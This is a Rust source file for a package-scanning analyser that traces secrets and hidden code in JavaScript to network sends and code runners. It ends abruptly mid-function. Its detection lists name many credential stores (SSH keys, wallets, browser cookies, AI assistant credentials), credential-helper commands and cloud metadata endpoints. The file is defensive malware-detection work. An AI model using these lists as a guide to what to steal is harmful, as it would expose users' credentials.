//! Data-flow lite: follows secrets from where a file gets them (the whole `process.env`, a
//! secret-named variable, a credential file read, a credential helper's output, the host's
//! identity) through variables, object and array literals, templates, concatenation, wrapper
//! calls (`JSON.stringify`, `Buffer.from(…).toString('base64')`, a local `parse`) and the
//! parameters of local functions, to where they leave: the arguments of a network call (URL,
//! headers, body, `req.write`/`end`, a DNS name) or of a command that uploads (`curl`, `wget`).
//!
//! Names are tracked per file, without scopes (like the alias map of `js.rs`), iterated to a
//! fixed point a few times so a function declared below its call still taints its parameters.
//! A credential in an `Authorization`-like header or an `auth` option is a client using its own
//! key, not a flow.

use crate::js::{Analyzer, HashMap};
use oxc_ast::ast::*;
use oxc_ast_visit::{Visit, walk};
use oxc_span::GetSpan;

/// How bad the data is, weakest first. The first three are where code can hide (they matter
/// when they reach a code runner); the rest are secrets (they matter when they leave).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Source {
    /// What a local decoding function (XOR, ROT13, char-code shifts, base-N) or a built-in
    /// decoder makes of constant data written in the file.
    Decoded,
    /// A file the package ships that is not code (JSON/YAML fields, `package.json`, a source
    /// map, an image, a font, a text file).
    PackageData,
    /// A network response (`fetch(…).text()`, the chunks of `https.get`, `res.data`).
    Remote,
    /// Who and where the machine is (`os.hostname()`, `os.userInfo()`).
    Host,
    /// One secret-named environment variable (`process.env.NPM_TOKEN`).
    Token,
    /// Every secret at once or a credential store: the whole environment, a credential file
    /// (`.env`, `.npmrc`, SSH keys, cloud credentials…), a credential helper's output
    /// (`gh auth token`, `git credential fill`).
    Secrets,
}

impl Source {
    /// A secret (not a hiding place for code).
    pub fn is_secret(self) -> bool {
        self >= Source::Host
    }
}

/// A source reaching a sink in one file.
#[derive(Debug, Clone)]
pub struct Flow {
    pub source: Source,
    /// What the data is (`process.env`, `reads .env`, `gh auth token`).
    pub what: String,
    /// The sink's resolved call path (`https.request`, `fetch`, `child_process.exec`).
    pub sink: String,
    pub off: u32,
}

type Taint = (Source, String);

/// Runs the flow pass over a parsed program with the analyser's final alias map: secrets that
/// reach a network send, and hidden code (or a host-derived key) that reaches a code runner.
pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
    let mut t = Tracker {
        an,
        vars: HashMap::default(),
        filled: Default::default(),
        global_picks: Default::default(),
        addresses: Default::default(),
        paths: HashMap::default(),
        params: HashMap::default(),
        returns: HashMap::default(),
        cred_returns: HashMap::default(),
        json_vars: HashMap::default(),
        current: Vec::new(),
        flows: Vec::new(),
        runs: Vec::new(),
        decoders: HashMap::default(),
        data_paths: HashMap::default(),
        const_data: HashMap::default(),
        callback_taints: HashMap::default(),
        grew: false,
        sites: false,
        paths_seen: HashMap::default(),
        memo_path: Default::default(),
        memo_fold: Default::default(),
    };
    // No pass at all when the file has nowhere to record a flow, and another pass only when a
    // taint grew: without a site, no number of passes finds anything.
    if !has_sites(&t, program) {
        return (Vec::new(), Vec::new());
    }
    for _ in 0..4 {
        t.grew = false;
        t.flows.clear();
        t.runs.clear();
        t.visit_program(program);
        #[cfg(test)]
        PASSES.with(|p| p.set(p.get() + 1));
        if !t.grew || !t.sites {
            break;
        }
    }
    let mut out = t.flows;
    out.retain(|f| f.source.is_secret());
    out.sort_by_key(|f| (f.off, std::cmp::Reverse(f.source)));
    out.dedup_by_key(|f| f.off);
    let mut runs = t.runs;
    runs.sort_by_key(|f| (f.off, std::cmp::Reverse(f.source)));
    runs.dedup_by_key(|f| f.off);
    (out, runs)
}

#[cfg(test)]
thread_local! {
    /// Passes of [`flows`] on this thread, for the tests.
    static PASSES: std::cell::Cell<u32> = const { std::cell::Cell::new(0) };
}

/// Whether the text of a file can hold a flow at all: a source and a sink both named, or a
/// code runner.
pub fn worth_tracking(src: &str) -> bool {
    if [
        "eval",
        "Function",
        "vm.",
        // vm's runners by name: the module may be an inline `require("vm")`, not `vm.`.
        "runInThisContext",
        "runInNewContext",
        "runInContext",
        "compileFunction",
        "_compile",
        "Runtime.evaluate",
        "import(",
        "constructor",
        "'-e'",
        "\"-e\"",
        "node -",
        "globalThis[",
        "global[",
        "window[",
        "self[",
    ]
    .iter()
    .any(|k| src.contains(k))
    {
        return true;
    }
    let source = src.contains("process.env")
        || src.contains("readFile")
        || src.contains("hostname")
        || src.contains("userInfo")
        || src.contains("auth token")
        || src.contains("credential")
        || src.contains("torage")
        || src.contains("cookie")
        || src.contains("Keychain")
        || src.contains("webRequest")
        || src.contains("clipboard")
        || src.contains("169.254.");
    let sink = [
        "http",
        "fetch",
        "axios",
        "request",
        "got",
        "net",
        "dns",
        "WebSocket",
        "curl",
        "wget",
        "sendBeacon",
        "sendMail",
        "needle",
        "undici",
    ]
    .iter()
    .any(|k| src.contains(k));
    source && sink
}

struct Tracker<'b, 's> {
    an: &'b Analyzer<'s>,
    vars: HashMap<String, Taint>,
    /// Variables the code filled with secrets field by field (`out[k] = process.env[k]`).
    filled: std::collections::HashSet<String>,
    /// Variables holding a global picked by a computed name (`const g = globalThis[f(k)]`).
    global_picks: std::collections::HashSet<String>,
    /// Variables destructured from an address-named field (`const { API_URL } = cfg`): where
    /// the configuration says to send, see [`address_key`].
    addresses: std::collections::HashSet<String>,
    /// Variables holding a credential file's path (`const p = path.join(home, '.npmrc')`).
    paths: HashMap<String, String>,
    /// Local functions and their parameter names.
    params: HashMap<String, Vec<String>>,
    /// Local functions that return a secret (`function token() { return process.env.X || … }`).
    returns: HashMap<String, Taint>,
    /// Local functions that return a credential path, or a list holding one (`function
    /// stores() { return [path.join(home, '.config/solana/id.json')] }`).
    cred_returns: HashMap<String, String>,
    /// Variables holding a JSON file the package requires, or a field of one.
    json_vars: HashMap<String, bool>,
    /// The named functions being walked, innermost last.
    current: Vec<String>,
    flows: Vec<Flow>,
    /// Hidden code or a host-derived value reaching a code runner.
    runs: Vec<Flow>,
    /// Local functions whose body decodes (char codes, XOR, base-N, ROT13).
    decoders: HashMap<String, bool>,
    /// Variables holding a path to a data file of the package, and constant data (long strings,
    /// arrays of numbers or strings) a decoder may be applied to.
    data_paths: HashMap<String, String>,
    const_data: HashMap<String, bool>,
    /// Local functions that call their n-th parameter with a tainted value.
    callback_taints: HashMap<(String, usize), Taint>,
    grew: bool,
    /// Whether the walk met a place where a flow or a run is recorded (a sink, a code runner
    /// given code, a `data:` import). Which calls these are depends only on the program and the
    /// alias map, never on the taints, so a file without one has no flow whatever the taints.
    sites: bool,
    /// Declarations whose initialiser named no credential store, with the size of `paths` then:
    /// `paths` only grows, so while its size is the same the answer is the same.
    paths_seen: HashMap<usize, usize>,
    /// The alias map's resolved paths and folded constants of the nodes asked about: both
    /// depend only on the node and the finished analyser, and each pass asks again.
    memo_path: std::cell::RefCell<HashMap<NodeKey, Option<String>>>,
    memo_fold: std::cell::RefCell<HashMap<NodeKey, Option<String>>>,
}

/// One node of the program being tracked: where it lives in the arena and its span.
type NodeKey = (usize, u32, u32);

fn node_key(e: &Expression) -> NodeKey {
    let sp = e.span();
    (std::ptr::from_ref(e) as usize, sp.start, sp.end)
}

/// Whether a function body's source decodes data: char-code arithmetic, XOR, base-N digits,
/// built-in decoders, an alphabet rotation.
fn decoder_body(src: &str) -> bool {
    src.len() < 4000
        && (src.contains("fromCharCode")
            || src.contains("charCodeAt") && (src.contains('^') || src.contains('%'))
            || src.contains("atob(")
            || src.contains("'base64'")
            || src.contains("\"base64\"")
            || src.contains("parseInt(") && src.contains("16")
            || src.contains("codePointAt") && src.contains('^'))
}

/// A file the package ships that is data, not code: where a hidden stage sits. Templates
/// (`.ejs`, `.hbs`, `.html`) are compiled to code by their engines and do not count.
fn data_file(s: &str) -> Option<&'static str> {
    let s = s.trim().to_ascii_lowercase();
    if s.len() > 300 || s.contains("://") {
        return None;
    }
    let base = s.rsplit(['/', '\\']).next().unwrap_or(&s);
    if base == "package.json" {
        return Some("package.json");
    }
    let ext = base.rsplit_once('.').map(|(_, e)| e)?;
    match ext {
        "json" | "yaml" | "yml" | "toml" | "map" => Some("a data file"),
        "png" | "jpg" | "jpeg" | "gif" | "ico" | "bmp" | "webp" | "svg" => Some("an image"),
        "ttf" | "otf" | "woff" | "woff2" | "eot" => Some("a font"),
        "txt" | "md" | "dat" | "bin" | "db" | "csv" | "log" | "lock" => Some("a text or data file"),
        _ => None,
    }
}

/// Calls that run a string as code; the index of the argument holding the code.
/// The runner name of a global function called by a computed name (`globalThis[f(k)](x)`).
const GLOBAL_BY_COMPUTED_NAME: &str = "globalThis[<computed>]";

/// `globalThis[f(k)]`: a global picked by a name computed by a call (`window`, `global`, `self`
/// too, when the code did not declare a variable of that name).
fn global_by_computed_name(e: &Expression, declared: &HashMap<String, Taint>) -> bool {
    let Expression::ComputedMemberExpression(m) = e.without_parentheses() else {
        return false;
    };
    matches!(
        m.object.without_parentheses(),
        Expression::Identifier(g)
            if matches!(g.name.as_str(), "globalThis" | "global" | "window" | "self")
                && !declared.contains_key(g.name.as_str())
    ) && matches!(
        m.expression.without_parentheses(),
        Expression::CallExpression(_)
    )
}

pub fn code_runner(p: &str, n_args: usize) -> Option<usize> {
    match p {
        GLOBAL_BY_COMPUTED_NAME => Some(0),
        "eval"
        | "vm.runInThisContext"
        | "vm.runInNewContext"
        | "vm.runInContext"
        | "vm.Script"
        | "vm.compileFunction"
        | "vm.SourceTextModule"
        | "worker_threads.Worker(eval)"
        | "module.register" => Some(0),
        "Function" => Some(n_args.saturating_sub(1)),
        _ if p.ends_with("._compile") => Some(0),
        _ => None,
    }
}

/// A secret-looking environment variable name.
fn secret_var(name: &str) -> bool {
    let u = name.to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "PRIVATE_KEY",
        "ACCESS_KEY",
        "_AUTH",
        "CREDENTIAL",
        "MNEMONIC",
    ]
    .iter()
    .any(|k| u.contains(k))
}

/// A path (or path piece) that names a credential store.
fn credential_path(s: &str) -> Option<&'static str> {
    let s = s.trim();
    if s.len() > 200 {
        return None;
    }
    let base = s.rsplit(['/', '\\']).next().unwrap_or(s);
    if base == ".env" || base.starts_with(".env.") && !base.ends_with(".example") {
        return Some(".env");
    }
    if base.len() > 5 && base.to_ascii_lowercase().ends_with(".kdbx") {
        return Some("password vaults");
    }
    let pieces: &[(&str, &str)] = &[
        (".npmrc", ".npmrc"),
        (".ssh", "ssh keys"),
        ("id_rsa", "ssh keys"),
        ("id_ed25519", "ssh keys"),
        (".git-credentials", "git credentials"),
        (".netrc", "git credentials"),
        (".aws", "cloud credentials"),
        (".kube", "cloud credentials"),
        ("gcloud", "cloud credentials"),
        (".docker/config.json", "docker credentials"),
        ("gh/hosts.yml", "gh credentials"),
        ("Login Data", "browser profiles"),
        ("wallet.dat", "wallets"),
        ("keystore", "wallets"),
        ("solana/id.json", "wallets"),
        (".bash_history", "shell history"),
        (".zsh_history", "shell history"),
        ("fish_history", "shell history"),
        (".node_repl_history", "shell history"),
        (".python_history", "shell history"),
        (".psql_history", "shell history"),
        (".mysql_history", "shell history"),
        (".sqlite_history", "shell history"),
        (".rediscli_history", "shell history"),
        ("ConsoleHost_history", "shell history"),
        // Password-manager vaults and the saved sessions of FTP/SSH clients.
        (".kdbx", "password vaults"),
        ("Bitwarden", "password vaults"),
        ("1Password", "password vaults"),
        ("LastPass", "password vaults"),
        ("FileZilla", "saved FTP sessions"),
        ("sitemanager.xml", "saved FTP sessions"),
        ("recentservers.xml", "saved FTP sessions"),
        ("WinSCP.ini", "saved FTP sessions"),
        ("SimonTatham", "saved FTP sessions"),
        // Publish tokens of other ecosystems and deploy CLIs.
        (".pypirc", "publish tokens"),
        (".gem/credentials", "publish tokens"),
        (".cargo/credentials", "publish tokens"),
        ("NuGet.Config", "publish tokens"),
        (".m2/settings", "publish tokens"),
        ("gradle.properties", "publish tokens"),
        ("composer/auth.json", "publish tokens"),
        (".yarnrc.yml", "publish tokens"),
        ("com.vercel.cli", "publish tokens"),
        (".vercel/auth.json", "publish tokens"),
        (".netlify/config.json", "publish tokens"),
        ("netlify/config.json", "publish tokens"),
        ("firebase-tools.json", "publish tokens"),
        (".pulumi/credentials", "publish tokens"),
        ("credentials.tfrc.json", "publish tokens"),
        (".config/hub", "gh credentials"),
        // AI assistants' keys and sessions.
        (".claude.json", "AI assistant credentials"),
        (".claude/.credentials", "AI assistant credentials"),
        (".codex/auth.json", "AI assistant credentials"),
        (".gemini/oauth_creds", "AI assistant credentials"),
        (".config/github-copilot", "AI assistant credentials"),
        // Workload identity of a container or pod.
        ("serviceaccount/token", "cloud credentials"),
        ("eks.amazonaws.com/serviceaccount", "cloud credentials"),
        (".azure/", "cloud credentials"),
        // Browser and app session stores.
        ("Local Storage/leveldb", "browser profiles"),
        ("Cookies.binarycookies", "browser profiles"),
        ("cookies.sqlite", "browser profiles"),
        ("logins.json", "browser profiles"),
        ("key4.db", "browser profiles"),
        (".purple/accounts.xml", "saved FTP sessions"),
    ];
    // A piece inside a longer string only counts in something shaped like a path.
    let path_like = s.starts_with(['.', '~', '/']) || s.contains('/');
    pieces
        .iter()
        .find(|(p, _)| s == *p || path_like && s.contains(p))
        .map(|(_, what)| *what)
}

/// Calls that read a store of secrets outside files: browser storage and cookies, the storage
/// and keychain modules of mobile and desktop apps, an Electron session's cookies, the clipboard.
/// `key` gives the folded first argument when there is one (asked only for a storage read).
/// Whole-store reads are `Secrets`; one token-named key is `Token`.
fn secret_store_read(
    p: &str,
    key: impl FnOnce() -> Option<String>,
) -> Option<(Source, &'static str)> {
    let p = p
        .trim_start_matches("window.")
        .trim_start_matches("globalThis.")
        .trim_start_matches("self.");
    let (head, method) = p.rsplit_once('.').unwrap_or(("", p));
    // Every call the tracker evaluates comes here: other methods are answered before the
    // lowercase copy and the key are made.
    if !matches!(
        method,
        "getItem"
            | "getString"
            | "getAllKeys"
            | "multiGet"
            | "getItemAsync"
            | "getGenericPassword"
            | "getInternetCredentials"
            | "getAllGenericPasswordServices"
            | "get"
            | "getAll"
            | "readText"
            | "readImage"
            | "read"
            | "readSync"
    ) {
        return None;
    }
    let obj = head.rsplit('.').next().unwrap_or(head);
    let lower = head.to_ascii_lowercase();
    let token_key =
        matches!(method, "getItem" | "getString") && key().is_some_and(|k| token_name(&k));
    let app_store = lower.contains("asyncstorage") || lower.contains("async-storage");
    match method {
        "getItem" | "getString"
            if matches!(obj, "localStorage" | "sessionStorage") || app_store =>
        {
            token_key.then_some((Source::Token, "a stored token"))
        }
        "getAllKeys" | "multiGet" if app_store => Some((Source::Secrets, "app storage")),
        "getItemAsync" if lower.contains("securestore") => {
            Some((Source::Secrets, "the app keychain"))
        }
        "getGenericPassword" | "getInternetCredentials" | "getAllGenericPasswordServices" => {
            Some((Source::Secrets, "the app keychain"))
        }
        "get" | "getAll" if obj == "cookies" && lower.contains("session") => {
            Some((Source::Secrets, "session cookies"))
        }
        "readText" | "readImage" if obj == "clipboard" => Some((Source::Token, "the clipboard")),
        "read" | "readSync" if lower.contains("clipboardy") => {
            Some((Source::Token, "the clipboard"))
        }
        _ => None,
    }
}

/// `localStorage` / `sessionStorage` (bare or under `window.`).
fn is_storage(e: &Expression) -> bool {
    !storage_name(e).is_empty()
}

fn storage_name<'e>(e: &'e Expression) -> &'e str {
    let name = match e.without_parentheses() {
        Expression::Identifier(id) => id.name.as_str(),
        Expression::StaticMemberExpression(m) if matches!(m.object.without_parentheses(), Expression::Identifier(w) if matches!(w.name.as_str(), "window" | "self" | "globalThis")) => {
            m.property.name.as_str()
        }
        _ => "",
    };
    if matches!(name, "localStorage" | "sessionStorage") {
        name
    } else {
        ""
    }
}

/// A storage key or cookie name that holds a credential.
fn token_name(k: &str) -> bool {
    let l = k.to_ascii_lowercase();
    [
        "token",
        "jwt",
        "session",
        "auth",
        "secret",
        "password",
        "mnemonic",
        "seed",
        "private",
        "wallet",
        "credential",
        "cookie",
        "persist:root",
    ]
    .iter()
    .any(|w| l.contains(w))
}

/// A URL of a cloud instance or container credential endpoint (instance metadata, ECS task
/// role, EKS pod identity, GCP metadata server).
fn credential_endpoint(url: &str) -> bool {
    url.contains("169.254.169.254")
        || url.contains("169.254.170.2")
        || url.contains("169.254.170.23")
        || url.contains("fd00:ec2::254")
        || url.contains("metadata.google.internal")
        || url.contains("AWS_CONTAINER_CREDENTIALS")
        || url.contains("/latest/meta-data/iam")
        || url.contains("/computeMetadata/v1/instance/service-accounts")
}

/// A command that prints a stored credential.
fn credential_helper(cmd: &str) -> bool {
    let c = cmd.trim();
    c.starts_with("gh auth token")
        || c.starts_with("git credential fill")
        || c.starts_with("npm token")
        || c.contains("security find-generic-password")
        || c.contains("security find-internet-password")
        || c.starts_with("git config --get http.") && c.contains("extraheader")
}

/// A configuration key that holds an address (`GITHUB_GRAPHQL_URL`, `apiUrl`, `SERVER_HOST`,
/// `endpoint`): a value picked by it and used as a request's URL is where the user's
/// configuration sends, not a secret leaving.
fn address_key(k: &str) -> bool {
    let l = k.to_ascii_lowercase();
    ["url", "uri", "host", "hostname", "endpoint", "origin"]
        .iter()
        .any(|w| {
            // the whole key, a `SNAKE_CASE` last word or a `camelCase` last word
            let camel = k
                .len()
                .checked_sub(w.len())
                .and_then(|i| k.get(i..))
                .is_some_and(|end| end.starts_with(|c: char| c.is_ascii_uppercase()));
            l == *w || l.ends_with(&format!("_{w}")) || l.ends_with(w) && camel
        })
}

/// Object keys whose value is a client's own credential, sent where it belongs.
fn auth_key(k: &str) -> bool {
    matches!(
        k.to_ascii_lowercase().as_str(),
        "authorization"
            | "proxy-authorization"
            | "auth"
            | "x-api-key"
            | "api-key"
            | "apikey"
            | "x-auth-token"
            | "private-token"
            | "x-github-token"
            | "bearer"
            | "password"
            | "passphrase"
            | "env"
    )
}

/// Under an `env` key, the environment itself (`{ env: process.env }`, `{ env: { ...process.env
/// } }`) is what a process start is given; as the payload of a request it is theft.
fn whole_env_value(e: &Expression) -> bool {
    match e.without_parentheses() {
        Expression::ObjectExpression(o) => o.properties.iter().any(|p| {
            matches!(p, ObjectPropertyKind::SpreadProperty(s)
                if matches!(s.argument.without_parentheses(), Expression::StaticMemberExpression(m)
                    if m.property.name == "env"
                        && matches!(m.object.without_parentheses(), Expression::Identifier(o) if o.name == "process")))
        }),
        _ => false,
    }
}

/// Calls that send data out of the machine.
fn is_sink(p: &str) -> bool {
    if crate::rules::network::is_net_call(p) {
        return true;
    }
    let (head, method) = p.rsplit_once('.').unwrap_or((p, ""));
    // Listener and option setters return the request itself, so a chain continues on it:
    // `https.request(o).on('error', f).end(body)` ends the request.
    let mut head = head;
    while let Some(h) = ["on", "once", "setTimeout", "setHeader", "setNoDelay"]
        .iter()
        .find_map(|m| head.strip_suffix(m).and_then(|h| h.strip_suffix('.')))
    {
        head = h;
    }
    let root = p.split('.').next().unwrap_or(p);
    let sending = matches!(
        method,
        "request" | "get" | "post" | "put" | "patch" | "send" | "write" | "end" | "connect"
    );
    // A client module (`axios.post`, `got.post`, `needle('post', …)`, `node-fetch`).
    // A client module's own call (`axios.post`, `got.post`, `needle(…)`), not a deeper chain
    // (`http.createServer.hot.send` is a dev server talking to its page).
    (crate::rules::network::NET_MODULES.contains(&root) && (sending && head == root || p == root))
        // The result of a request or socket: `https.request.end(body)`, `net.connect.write(x)`.
        || (matches!(method, "write" | "end" | "send") && crate::rules::network::is_net_call(head))
        // A mail transport (`nodemailer.createTransport(…).sendMail(msg)`).
        || method == "sendMail" && root == "nodemailer"
}

impl Tracker<'_, '_> {
    /// [`Analyzer::path_of`], remembered per node.
    fn path_of(&self, e: &Expression) -> Option<String> {
        let k = node_key(e);
        if let Some(v) = self.memo_path.borrow().get(&k) {
            return v.clone();
        }
        let v = self.an.path_of(e);
        self.memo_path.borrow_mut().insert(k, v.clone());
        v
    }

    /// [`Analyzer::fold_expr`], remembered per node.
    fn fold_expr(&self, e: &Expression) -> Option<String> {
        let k = node_key(e);
        if let Some(v) = self.memo_fold.borrow().get(&k) {
            return v.clone();
        }
        let v = self.an.fold_expr(e);
        self.memo_fold.borrow_mut().insert(k, v.clone());
        v
    }

    fn taint_var(&mut self, name: &str, t: Taint) {
        match self.vars.get(name) {
            Some(old) if old.0 >= t.0 => {}
            _ => {
                self.vars.insert(name.to_string(), t);
                self.grew = true;
            }
        }
    }

    /// A list whose every item names an `.npmrc` (a config loader's search path).
    fn only_npmrc(&self, e: &Expression) -> bool {
        match e.without_parentheses() {
            Expression::ArrayExpression(a) => a.elements.iter().all(|el| {
                el.as_expression()
                    .and_then(|x| self.names_credential(x, 0))
                    .is_some_and(|w| w == ".npmrc")
            }),
            _ => false,
        }
    }

    /// The variable a test matches against a list of credential file names, and what the list
    /// names: `LIST.some((n) => p.endsWith(n))` (also `includes`, `startsWith`, `===`, a
    /// basename), `LIST.includes(p)`.
    fn picked_by_credential_list(&self, test: &Expression) -> Option<(String, String)> {
        let Expression::CallExpression(c) = test.without_parentheses() else {
            return None;
        };
        let Expression::StaticMemberExpression(m) = c.callee.without_parentheses() else {
            return None;
        };
        let method = m.property.name.as_str();
        if !matches!(method, "some" | "find" | "includes" | "indexOf" | "has") {
            return None;
        }
        let w = self.names_credential(&m.object, 0)?;
        if self.only_npmrc(&m.object) {
            return None;
        }
        let arg = c.arguments.first()?.as_expression()?.without_parentheses();
        let ident = |e: &Expression| match e.without_parentheses() {
            Expression::Identifier(id) => Some(id.name.to_string()),
            _ => None,
        };
        if matches!(method, "includes" | "indexOf" | "has") {
            return Some((ident(arg)?, w));
        }
        // The callback: one parameter compared with the picked variable.
        let Expression::ArrowFunctionExpression(f) = arg else {
            return None;
        };
        let [param] = f.params.items.as_slice() else {
            return None;
        };
        let BindingPattern::BindingIdentifier(pn) = &param.pattern else {
            return None;
        };
        let body = match &f.body {
            ArrowFunctionBody::FunctionBody(b) => match b.statements.as_slice() {
                [Statement::ExpressionStatement(e)] => &e.expression,
                [Statement::ReturnStatement(r)] => r.argument.as_ref()?,
                _ => return None,
            },
            b => b.as_expression()?,
        };
        let picked = match body.without_parentheses() {
            Expression::CallExpression(k) => {
                let Expression::StaticMemberExpression(km) = k.callee.without_parentheses() else {
                    return None;
                };
                let takes_param = k
                    .arguments
                    .first()
                    .and_then(|a| a.as_expression())
                    .and_then(ident)
                    .is_some_and(|a| a == pn.name.as_str());
                (matches!(
                    km.property.name.as_str(),
                    "endsWith" | "includes" | "startsWith"
                ) && takes_param)
                    .then(|| ident(&km.object))
                    .flatten()?
            }
            Expression::BinaryExpression(b)
                if matches!(
                    b.operator,
                    BinaryOperator::StrictEquality | BinaryOperator::Equality
                ) =>
            {
                let (l, r) = (ident(&b.left), ident(&b.right));
                if r.as_deref() == Some(pn.name.as_str()) {
                    l?
                } else if l.as_deref() == Some(pn.name.as_str()) {
                    r?
                } else {
                    return None;
                }
            }
            _ => return None,
        };
        Some((picked, w))
    }

    fn path_var(&mut self, name: &str, what: &str) {
        if !self.paths.contains_key(name) {
            self.paths.insert(name.to_string(), what.to_string());
            self.grew = true;
        }
    }

    fn taint_pattern(&mut self, p: &BindingPattern, t: &Taint) {
        match p {
            BindingPattern::BindingIdentifier(id) => self.taint_var(id.name.as_str(), t.clone()),
            BindingPattern::ObjectPattern(o) => {
                for prop in &o.properties {
                    if let BindingPattern::BindingIdentifier(id) = &prop.value
                        && prop.key.static_name().is_some_and(|k| address_key(&k))
                    {
                        self.addresses.insert(id.name.to_string());
                    }
                    self.taint_pattern(&prop.value, t);
                }
                if let Some(r) = &o.rest {
                    self.taint_pattern(&r.argument, t);
                }
            }
            BindingPattern::ArrayPattern(a) => {
                for el in a.elements.iter().flatten() {
                    self.taint_pattern(el, t);
                }
            }
            BindingPattern::AssignmentPattern(a) => self.taint_pattern(&a.left, t),
        }
    }

    /// [`Self::names_credential`] of a declaration's initialiser, remembering a miss.
    fn names_credential_seen(&mut self, key: usize, init: &Expression) -> Option<String> {
        let w = self.names_credential(init, 0);
        if w.is_none() {
            self.paths_seen.insert(key, self.paths.len());
        }
        w
    }

    /// The credential store a path expression names, through variables holding such paths.
    fn names_credential(&self, e: &Expression, depth: u32) -> Option<String> {
        if depth > 12 {
            return None;
        }
        if let Some(s) = self.fold_expr(e)
            && let Some(w) = credential_path(&s)
        {
            return Some(w.to_string());
        }
        match e.without_parentheses() {
            Expression::StringLiteral(s) => credential_path(&s.value).map(str::to_string),
            Expression::Identifier(id) => self.paths.get(id.name.as_str()).cloned(),
            Expression::TemplateLiteral(t) => {
                for q in &t.quasis {
                    if let Some(w) = credential_path(q.value.raw.as_str()) {
                        return Some(w.to_string());
                    }
                }
                t.expressions
                    .iter()
                    .find_map(|x| self.names_credential(x, depth + 1))
            }
            Expression::BinaryExpression(b) => self
                .names_credential(&b.left, depth + 1)
                .or_else(|| self.names_credential(&b.right, depth + 1)),
            Expression::LogicalExpression(l) => self
                .names_credential(&l.left, depth + 1)
                .or_else(|| self.names_credential(&l.right, depth + 1)),
            Expression::ConditionalExpression(c) => self
                .names_credential(&c.consequent, depth + 1)
                .or_else(|| self.names_credential(&c.alternate, depth + 1)),
            // `path.join(home, '.npmrc')`, `[home, '.npmrc'].join(sep)`
            Expression::CallExpression(c) => c
                .arguments
                .iter()
                .filter_map(|a| a.as_expression())
                .find_map(|x| self.names_credential(x, depth + 1))
                .or_else(|| match c.callee.without_parentheses() {
                    Expression::StaticMemberExpression(m) => {
                        self.names_credential(&m.object, depth + 1)
                    }
                    // `for (const p of stores())`: a local function returning such paths.
                    Expression::Identifier(id) => self.cred_returns.get(id.name.as_str()).cloned(),
                    _ => None,
                }),
            Expression::ArrayExpression(a) => a
                .elements
                .iter()
                .filter_map(|el| el.as_expression())
                .find_map(|x| self.names_credential(x, depth + 1)),
            _ => None,
        }
    }

    /// The data file of the package a path expression names (`path.join(__dirname, 'a.png')`).
    fn names_data_file(&self, e: &Expression, depth: u32) -> Option<String> {
        if depth > 12 {
            return None;
        }
        if let Some(s) = self.fold_expr(e)
            && let Some(w) = data_file(&s)
        {
            return Some(w.to_string());
        }
        match e.without_parentheses() {
            Expression::StringLiteral(s) => data_file(&s.value).map(str::to_string),
            Expression::Identifier(id) => self.data_paths.get(id.name.as_str()).cloned(),
            Expression::TemplateLiteral(t) => t
                .quasis
                .last()
                .and_then(|q| data_file(q.value.raw.as_str()))
                .map(str::to_string),
            Expression::BinaryExpression(b) => self.names_data_file(&b.right, depth + 1),
            Expression::CallExpression(c) => c
                .arguments
                .last()
                .and_then(|a| a.as_expression())
                .and_then(|x| self.names_data_file(x, depth + 1)),
            _ => None,
        }
    }

    /// Constant data a decoder can be applied to: a long string, an array of constants, a
    /// variable holding one.
    fn constant_data(&self, e: &Expression) -> bool {
        match e.without_parentheses() {
            Expression::Identifier(id) => {
                self.const_data.contains_key(id.name.as_str())
                    || self.fold_expr(e).is_some_and(|s| s.len() >= 16)
            }
            Expression::ArrayExpression(a) => {
                a.elements.len() >= 8
                    && a.elements.iter().all(|el| {
                        matches!(
                            el,
                            ArrayExpressionElement::NumericLiteral(_)
                                | ArrayExpressionElement::StringLiteral(_)
                                | ArrayExpressionElement::UnaryExpression(_)
                        )
                    })
            }
            Expression::StringLiteral(s) => s.value.len() >= 16,
            Expression::TemplateLiteral(t) => {
                t.expressions.is_empty()
                    && t.quasis.iter().map(|q| q.value.raw.len()).sum::<usize>() >= 16
            }
            Expression::StaticMemberExpression(m) => self.constant_data(&m.object),
            Expression::CallExpression(c) => match c.callee.without_parentheses() {
                // `'…'.split('')`, `data.slice(3)`, `Buffer.from(k)`
                Expression::StaticMemberExpression(m) => {
                    self.constant_data(&m.object)
                        || c.arguments
                            .first()
                            .and_then(|a| a.as_expression())
                            .is_some_and(|a| self.constant_data(a))
                }
                // `require('../data/rules.json')`: a data file the package ships is constant
                // data too, for a local decoder handed a field of it.
                Expression::Identifier(_) => {
                    self.path_of(&c.callee).as_deref() == Some("require")
                        && c.arguments
                            .first()
                            .and_then(|a| a.as_expression())
                            .and_then(|a| self.names_data_file(a, 0))
                            .is_some()
                }
                _ => false,
            },
            _ => false,
        }
    }

    /// A JSON file of the package that the code requires, a field of it, or a variable holding
    /// either.
    fn required_json(&self, e: &Expression, depth: u32) -> bool {
        if depth > 8 {
            return false;
        }
        match e.without_parentheses() {
            Expression::Identifier(id) => self.json_vars.contains_key(id.name.as_str()),
            Expression::StaticMemberExpression(m) => self.required_json(&m.object, depth + 1),
            Expression::ComputedMemberExpression(m) => self.required_json(&m.object, depth + 1),
            // Its text shuffled by string methods (`t.split('').reverse().join('')`, a slice):
            // still the data file's, now in the order a decoder wants.
            Expression::CallExpression(c)
                if matches!(c.callee.without_parentheses(), Expression::StaticMemberExpression(m)
                    if matches!(m.property.name.as_str(),
                        "split" | "reverse" | "join" | "slice" | "substring" | "substr"
                            | "replace" | "replaceAll" | "trim" | "toString" | "concat")
                        && self.required_json(&m.object, depth + 1)) =>
            {
                true
            }
            Expression::CallExpression(c) => {
                self.path_of(&c.callee).as_deref() == Some("require")
                    && c.arguments
                        .first()
                        .and_then(|a| a.as_expression())
                        .and_then(|a| self.names_data_file(a, 0))
                        .is_some_and(|w| w == "a data file" || w == "package.json")
            }
            _ => false,
        }
    }

    /// Where a call's result hides code: a data file of the package (`require('./x.json')`), a
    /// decoder applied to constant data, char codes turned into a string.
    fn hidden_code_source(&self, c: &CallExpression, p: &str, depth: u32) -> Option<Taint> {
        let args = || c.arguments.iter().filter_map(|a| a.as_expression());
        // Only the package's own manifest: other required JSON (jsdom's property tables) is
        // followed through names without scopes into unrelated calls.
        if p == "require"
            && let Some(w) = args()
                .next()
                .and_then(|a| self.names_data_file(a, 0))
                .filter(|w| w == "package.json")
        {
            return Some((Source::PackageData, format!("requires {w}")));
        }
        let all_args = || {
